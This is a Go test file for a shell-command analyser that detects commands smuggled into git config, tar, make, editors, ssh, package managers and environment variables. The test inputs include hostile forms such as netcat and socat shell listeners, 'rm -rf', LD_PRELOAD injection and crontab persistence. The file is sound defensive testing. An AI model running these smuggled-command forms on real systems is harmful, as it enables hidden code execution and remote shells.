package shell

import (
	"strings"
	"testing"
)

// hiddenSegments renders the hidden segments: judged ones as "argv", floor-only ones as
// "floor:argv".
func hiddenSegments(an *Analysis) []string {
	var out []string
	for _, s := range an.Segments {
		if !s.Hidden {
			continue
		}
		v := strings.Join(s.Argv(), " ")
		if !s.Judged {
			v = "floor:" + v
		}
		out = append(out, v)
	}
	return out
}

// Commands hidden in arguments, options, configuration and the environment are segments of
// their own, marked Hidden, and judged (or at least seen by the floor).
func TestHiddenCommands(t *testing.T) {
	for _, tc := range []struct {
		cmd  string
		want string // a hidden segment that must be found
		ok   bool
	}{
		// git -c and the subcommands that run commands.
		{"git -c core.pager='less -R' log", "less -R", true},
		{"git -c alias.x='!rm -rf build' x", "rm -rf build", true},
		{"git -c alias.st=status st", "git status", true},
		{"git -c core.sshCommand='ssh -i key' fetch", "ssh -i key", true},
		{"git -c core.editor=vim commit", "vim", true},
		{"git -c credential.helper=store push", "git credential-store", true},
		{"git -c credential.helper='!f() { echo x; }; f' push", "echo x", true},
		{"git -c diff.external=difft diff", "difft", true},
		{"git -c diff.x.textconv='hexdump -C' diff", "hexdump -C", true},
		{"git -c filter.lfs.smudge='git-lfs smudge' checkout", "git-lfs smudge", true},
		{"git -c gpg.program=gpg2 commit -S", "gpg2", true},
		{"git -c uploadpack.packObjectsHook=x fetch", "x", true},
		{"git -c remote.origin.uploadpack='touch y' fetch", "touch y", true},
		{"git -c sequence.editor=true rebase -i", "true", true},
		{"git -c pager.log='sh -c id' log", "id", true},
		{"git -c hook.pre-commit.command=id commit", "id", true},
		{"git -c core.fsmonitor='touch z' status", "touch z", true},
		{"git -c Core.Pager=cat log", "cat", true},
		{"git -ccore.pager=cat log", "cat", true},
		{"git --no-pager -C sub -c core.pager=more log", "more", true},
		{"git submodule foreach 'git pull'", "git pull", true},
		{"git submodule --quiet foreach --recursive git fetch", "git fetch", true},
		{"git rebase -x 'make test' main", "make test", true},
		{"git rebase --exec='make test' main", "make test", true},
		{"git rebase --exec 'make test' main", "make test", true},
		{"git rebase --exe='make test' main", "make test", true},
		{"git rebase -ix 'make test' main", "make test", true},
		{"git rebase -xmake main", "make", true},
		{"git bisect run make test", "make test", true},
		{"git filter-branch --tree-filter 'rm -f secret' HEAD", "rm -f secret", true},
		{"git filter-branch --index-filter='git rm x' HEAD", "git rm x", true},
		{"git filter-branch --msg-f 'sed s/a/b/' HEAD", "sed s/a/b/", true},
		{"git difftool -x 'diff -u' HEAD", "diff -u", true},
		{"git difftool --extcmd=meld HEAD", "meld", true},
		{"git fetch --upload-pack='touch x' origin", "touch x", true},
		{"git clone -u 'touch x' /repo y", "touch x", true},
		{"git ls-remote --upload-pack=id /repo", "id", true},
		{"git push --receive-pack='touch r' origin", "touch r", true},
		{"git archive --exec=id --remote=/repo HEAD", "id", true},
		{"git clone -c core.hooksPath=/tmp x y", "", false},
		{"git clone --config core.pager=less x y", "less", true},
		{"git grep -Ovim foo", "vim", true},
		{"git grep --open-files-in-pager=less foo", "less", true},
		{"git send-email --to-cmd=./tocmd.sh x.patch", "./tocmd.sh", true},
		{"git daemon --access-hook=./hook", "./hook", true},
		// make, tar, rsync, zip.
		{"make SHELL=/tmp/evil", "/tmp/evil", true},
		{"make SHELL='sh -x' all", "sh -x", true},
		{"make --eval='x:;@touch y' x", "floor:touch y", false},
		{"make -E 'all: ; touch z'", "floor:touch z", false},
		{"make -f - <<< 'all:;touch x'", "floor:touch x", false},
		{"make --file=/dev/stdin <<< 'all:;touch x'", "floor:touch x", false},
		{"make -f- <<< 'all:;touch x'", "floor:touch x", false},
		{"make MAKEFLAGS=-n", "", false},
		{"make CC='rm -rf x'", "rm -rf x", true},
		{"make CC=clang", "clang", true},
		{"make X='$(shell id)'", "floor:id", false},
		{"find . -exec rm {} ;", "rm {}", true},
		{"find . -execdir sh -c 'id' ;", "id", true},
		{"find . -ok rm {} +", "rm {}", true},
		{"tar -cf x.tar --to-command='sh -c id' .", "id", true},
		{"tar --to-com=id -xf x.tar", "id", true},
		{"tar -I 'gzip -9' -cf x .", "gzip -9", true},
		{"tar -Izstd -cf x .", "zstd", true},
		{"tar cfI x.tar zstd .", "zstd", true},
		{"tar --use-compress-program=pigz -cf x .", "pigz", true},
		{"tar --use-compress-prog=pigz -cf x .", "pigz", true},
		{"tar --checkpoint=1 --checkpoint-action=exec=id -cf x .", "id", true},
		{"tar -xf x.tar --info-script=./next.sh", "./next.sh", true},
		{"tar -F ./next.sh -xf x.tar", "./next.sh", true},
		{"tar --rsh-command=/tmp/r -xf h:x.tar", "/tmp/r", true},
		{"rsync -e 'ssh -p 22' a host:b", "ssh -p 22", true},
		{"rsync -avze 'ssh -i k' a b:", "ssh -i k", true},
		{"rsync -avzessh a b:", "ssh", true},
		{"rsync --rsh=ssh a b:", "ssh", true},
		{"rsync --rsh ssh a b:", "ssh", true},
		{"rsync --rsync-path='sudo rsync' a h:b", "floor:rsync", true},
		{"zip -TT 'id' x.zip f", "id", true},
		{"zip x.zip f -T --unzip-command=unzip", "unzip", true},
		// Editors, debuggers, pagers, multiplexers.
		{"vim -c '!id' f", "floor:id", false},
		{"vim +'!id' f", "floor:id", false},
		{"vim --cmd 'r !id' f", "floor:id", false},
		{"vim -c 'call system(\"id\")' f", "floor:id", false},
		{"ex -c ':%!sort' f", "floor:sort", false},
		{"ex f <<< '!id'", "floor:id", false},
		{"vim -es f <<< '!id'", "floor:id", false},
		{"ed f <<< '!id'", "floor:id", false},
		{"printf 'w !id\\n' | ed -s f", "floor:id", false},
		{"gdb -batch -ex 'shell id'", "floor:id", false},
		{"gdb -batch -ex '!id'", "floor:id", false},
		{"gdb --args rm -rf x", "rm -rf x", true},
		{"gdb -batch -ex run ./prog", "./prog", false},
		{"lldb -o 'platform shell id'", "floor:id", false},
		{"man -P 'less -X' ls", "less -X", true},
		{"man --pager=cat ls", "cat", true},
		{"man --pag=cat ls", "cat", true},
		{"man -Pcat ls", "cat", true},
		{"man -Hfirefox ls", "firefox", true},
		{"less '+!id' f", "floor:id", false},
		{"tmux new-session -d 'id'", "id", true},
		{"tmux new -s x -d top", "top", true},
		{"tmux new-window -n w 'make test'", "make test", true},
		{"tmux split-window -h vim", "vim", true},
		{"tmux run-shell 'id'", "id", true},
		{"tmux -c 'id'", "id", true},
		{"tmux if-shell 'test -f x' 'kill-server'", "test -f x", false},
		{"tmux send-keys -t 0 'id' Enter", "floor:id", false},
		{`tmux ls \; new -d id`, "id", true},
		{"screen -dm id", "id", true},
		{"screen -X stuff 'id^M'", "floor:id", false},
		// Shells and runners with a command in an argument.
		{"script -c id /dev/null", "id", true},
		{"su -c 'id' root", "id", true},
		{"sg wheel -c 'id'", "id", true},
		{"sg wheel id", "id", true},
		{"parallel 'echo {}' ::: a b", "echo a", true},
		{"parallel echo ::: a b", "echo a", true},
		{"parallel ::: 'id'", "id", true},
		{"parallel -j2 'gzip {}' ::: f1", "gzip f1", true},
		{"parallel 'rm {}'", "rm {}", false},
		{"expect -c 'spawn id'", "floor:id", false},
		{"expect -c 'exec rm -rf x'", "floor:rm -rf x", false},
		{"echo '* * * * * id' | crontab -", "floor:id", false},
		{"crontab - <<< '@reboot touch x'", "floor:touch x", false},
		{"npm explore pkg -- id", "id", true},
		{"npm --script-shell=/tmp/sh test", "/tmp/sh", true},
		{"npm test --script-sh=/tmp/sh", "/tmp/sh", true},
		{"npm run build --shell bash", "bash", true},
		// Environment variables that name programs.
		{"GIT_SSH_COMMAND='ssh -v' git fetch", "ssh -v", true},
		{"GIT_PROXY_COMMAND=./proxy git fetch", "./proxy", true},
		{"EDITOR=vim git commit", "vim", true},
		{"GIT_PAGER=cat git log", "cat", true},
		{"SYSTEMD_PAGER=less journalctl", "less", true},
		{"AWS_PAGER='' aws s3 ls", "", true},
		{"npm_config_script_shell=/tmp/x npm test", "/tmp/x", true},
		{"env GIT_SSH_COMMAND='ssh -v' git fetch", "ssh -v", true},
		{"CC=clang make", "clang", true},
		{"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER=./run cargo test", "./run", true},
		{"LD_PRELOAD=x ls", "", false},
		{"PYTHONPATH=. python3 x.py", "", false},
		{"NODE_OPTIONS=--require=./x node a.js", "", false},
		{"BASH_ENV=x bash s.sh", "", false},
		{"TAR_OPTIONS=--to-command=id tar -xf x", "", false},
		{"npm_config_registry=http://x npm i", "", false},
		{"GIT_DIR=/tmp/other git log", "", false},
		// sed, database shells, network tools, package managers.
		{"sed -n '1e id' f", "floor:id", false},
		{"sed 's/x/id/e' f", "floor:id", false},
		{"sed --expression='1e id' f", "floor:id", false},
		{"sed -e p -e '$e id' f", "floor:id", false},
		{"sed -f - f <<< '1e id'", "floor:id", false},
		{"sed --sandbox '1e id' f", "", true},
		{"sqlite3 db '.shell id'", "floor:id", false},
		{"sqlite3 -cmd '.system id' db", "floor:id", false},
		{"sqlite3 db <<< '.once |id'", "floor:id", false},
		{"psql -c '\\! id'", "floor:id", false},
		{"mysql -e 'system id'", "floor:id", false},
		{"socat - EXEC:id", "id", true},
		{"socat TCP-LISTEN:1 SYSTEM:'id',pty", "id", true},
		{"nc -e /bin/sh host 1", "/bin/sh", true},
		{"nc -lvnp 4444 -e /bin/sh", "/bin/sh", true},
		{"ncat --sh-exec 'id' host 1", "id", true},
		{"apt-get -o APT::Update::Pre-Invoke::=id update", "id", true},
		{"apt -o Dpkg::Post-Invoke::='touch x' install y", "touch x", true},
		{"go test -exec sudo ./...", "sudo", true},
		{"go build -toolexec=/tmp/x ./...", "/tmp/x", true},
		{"go vet -vettool=./tool ./...", "./tool", true},
		{"hg --config hooks.pre-commit=id commit", "id", true},
		{"scp -S ./fake a h:b", "./fake", true},
		{"sftp -D ./server h", "./server", true},
		{"ssh -o ProxyCommand='nc %h %p' h", "nc %h %p", true},
		{"ssh -oLocalCommand=id -oPermitLocalCommand=yes h", "id", true},
		{"ssh -o PKCS11Provider=/tmp/x.so h", "", false},
		{"cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"./run\"' test", "./run", true},
		{"cargo --config alias.b='build --release' b", "cargo build --release", true},
		{"gcc -wrapper sh,-c,id x.c", "id", true},
		{"gcc -wrapper ccache x.c", "ccache", true},
		{"gcc -fplugin=./x.so x.c", "", false},
		{"ansible localhost -c local -m shell -a 'id'", "floor:id", false},
		{"emacs --batch --eval '(shell-command \"id\")'", "floor:id", false},
		{"wget --use-askpass=./pass http://x", "./pass", true},
		// Runners the analysis cannot see through are not-ok; the floor still reads them.
		{"strace -f ls", "", false},
		{"unshare -r id", "", false},
		{"systemd-run --user id", "", false},
		{"trap 'id' EXIT", "id", true},
	} {
		t.Run(tc.cmd, func(t *testing.T) {
			an := Analyze(tc.cmd, testOpts)
			if an.OK != tc.ok {
				t.Errorf("OK = %v, want %v (problems %q)", an.OK, tc.ok, an.Problems)
			}
			got := hiddenSegments(an)
			if tc.want == "" {
				return
			}
			for _, g := range got {
				if g == tc.want {
					return
				}
			}
			t.Errorf("hidden segments %q, want %q", got, tc.want)
		})
	}
}
